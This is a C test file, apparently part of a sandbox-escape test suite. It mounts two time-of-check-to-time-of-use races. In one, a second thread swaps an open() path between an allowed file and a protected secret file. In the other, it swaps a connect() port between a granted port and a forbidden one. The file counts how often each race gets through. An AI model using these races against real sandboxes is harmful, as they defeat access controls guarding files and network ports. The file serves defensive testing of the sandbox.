// Attacks by time: one thread changes what another one's call is about, while the kernel decides.
#include "escape.h"

#include <pthread.h>

static char path[PATH_MAX];
static struct sockaddr_in address;
static volatile int over;

static void *flip_path(void *with) {
  const char *granted = "/etc/hosts", *other = with;
  while (!over) {
    memcpy(path, other, strlen(other) + 1);
    __asm__ volatile("" ::: "memory");
    memcpy(path, granted, strlen(granted) + 1);
    __asm__ volatile("" ::: "memory");
  }
  return 0;
}

// Reads what was opened; 0 when it is the secret.
static int leaks(int fd) {
  char text[8] = "";
  int found = fd >= 0 && read(fd, text, 6) == 6 && strncmp(text, "secret", 6) == 0;
  if (fd >= 0) close(fd);
  return found ? 0 : -1;
}

static int race_open(void) {
  alarm(0);
  pthread_t thread;
  char secret[PATH_MAX];
  snprintf(secret, sizeof secret, "%s", victim("secret"));
  pthread_create(&thread, 0, flip_path, secret);
  int leaked = 0;
  for (int i = 0; i < TRIES; i++) leaked += leaks(open(path, O_RDONLY)) == 0;
  over = 1;
  pthread_join(thread, 0);
  errno = EACCES;
  return leaked ? 0 : -1;
}

static void *flip_port(void *with) {
  int granted = number("granted"), other = number("tcp");
  (void)with;
  while (!over) {
    *(volatile in_port_t *)&address.sin_port = htons(other);
    *(volatile in_port_t *)&address.sin_port = htons(granted);
  }
  return 0;
}

static int race_connect(void) {
  alarm(0);
  pthread_t thread;
  int other = number("tcp"), reached = 0;
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  pthread_create(&thread, 0, flip_port, 0);
  for (int i = 0; i < TRIES / 100; i++) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0 &&
        getpeername(fd, (struct sockaddr *)&peer, &size) == 0 && ntohs(peer.sin_port) == other)
      reached++;
    close(fd);
  }
  over = 1;
  pthread_join(thread, 0);
  errno = EACCES;
  return reached ? 0 : -1;
}

int main(void) {
  static const struct attack attacks[] = {{"race of open", race_open}, {"race of connect", race_connect}, {0}};
  return attack_all(attacks);
}
